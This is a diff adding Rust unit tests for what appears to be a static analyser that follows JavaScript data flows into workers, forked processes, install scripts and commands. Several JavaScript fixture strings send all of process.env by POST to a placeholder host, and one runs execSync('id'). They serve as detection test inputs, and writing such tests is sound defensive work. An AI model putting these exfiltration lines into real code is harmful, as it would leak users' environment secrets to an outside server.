@@ -144,3 +144,80 @@ fn typescript_is_read_when_it_is_run() {
     );
     assert_eq!(facts.flows.len(), 1, "{facts:?}");
 }
+
+#[test]
+fn what_is_started_beside_runs_in_a_worker() {
+    // Each row: how `index.js` starts `w.js`, and from where that one runs then.
+    for (text, expected) in [
+        ("new Worker('./w.js')", Surface::Worker),
+        (
+            "new Worker(new URL('./w.js', import.meta.url))",
+            Surface::Worker,
+        ),
+        ("new SharedWorker('w.js')", Surface::Worker),
+        (
+            "navigator.serviceWorker.register('./w.js')",
+            Surface::Worker,
+        ),
+        ("require('child_process').fork('./w.js')", Surface::Worker),
+        (
+            "require('child_process').fork(require.resolve('./w'))",
+            Surface::Worker,
+        ),
+        (
+            "const { Worker } = require('worker_threads'); new Worker(require('path').join(__dirname, 'w.js'), { workerData: process.env })",
+            Surface::Worker,
+        ),
+        ("new Worker('./v.js')", Surface::Worker),
+        ("require('./w')", Surface::Import),
+        ("require('./w'); new Worker('./v.js')", Surface::Import),
+        ("registry.register('./w.js')", Surface::Unreferenced),
+        ("console.log('./w.js')", Surface::Unreferenced),
+    ] {
+        let files = [
+            ("index.js", text),
+            ("v.js", "require('./w')"),
+            (
+                "w.js",
+                "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
+            ),
+        ];
+        let facts = run(&files, &[], &[(Surface::Import, "index.js")]);
+        let found = facts.surfaces.get("w.js").copied();
+        assert_eq!(found.unwrap_or(Surface::Unreferenced), expected, "{text}");
+        let surfaces: Vec<Surface> = facts.flows.iter().map(|flow| flow.surface).collect();
+        assert!(surfaces.contains(&expected), "{text}: {surfaces:?}");
+    }
+}
+
+#[test]
+fn a_value_that_is_handed_to_a_worker_is_followed() {
+    let facts = run(
+        &[
+            (
+                "index.js",
+                "const { fork } = require('child_process'); const child = fork('./w.js'); exports.env = process.env;",
+            ),
+            (
+                "w.js",
+                "const { env } = require('./index'); fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(env) })",
+            ),
+        ],
+        &[],
+        &[(Surface::Import, "index.js")],
+    );
+    let surfaces: Vec<Surface> = facts.flows.iter().map(|flow| flow.surface).collect();
+    assert_eq!(surfaces, [Surface::Worker], "{facts:?}");
+}
+
+#[test]
+fn what_install_or_a_command_starts_runs_with_them() {
+    let files = [
+        ("index.js", "require('child_process').fork('./w.js')"),
+        ("w.js", "require('child_process').execSync('id')"),
+    ];
+    let facts = run(&files, &["node index.js"], &[]);
+    assert_eq!(facts.surfaces.get("w.js"), Some(&Surface::Install));
+    let facts = run(&files, &[], &[(Surface::Command, "index.js")]);
+    assert_eq!(facts.surfaces.get("w.js"), Some(&Surface::Command));
+}
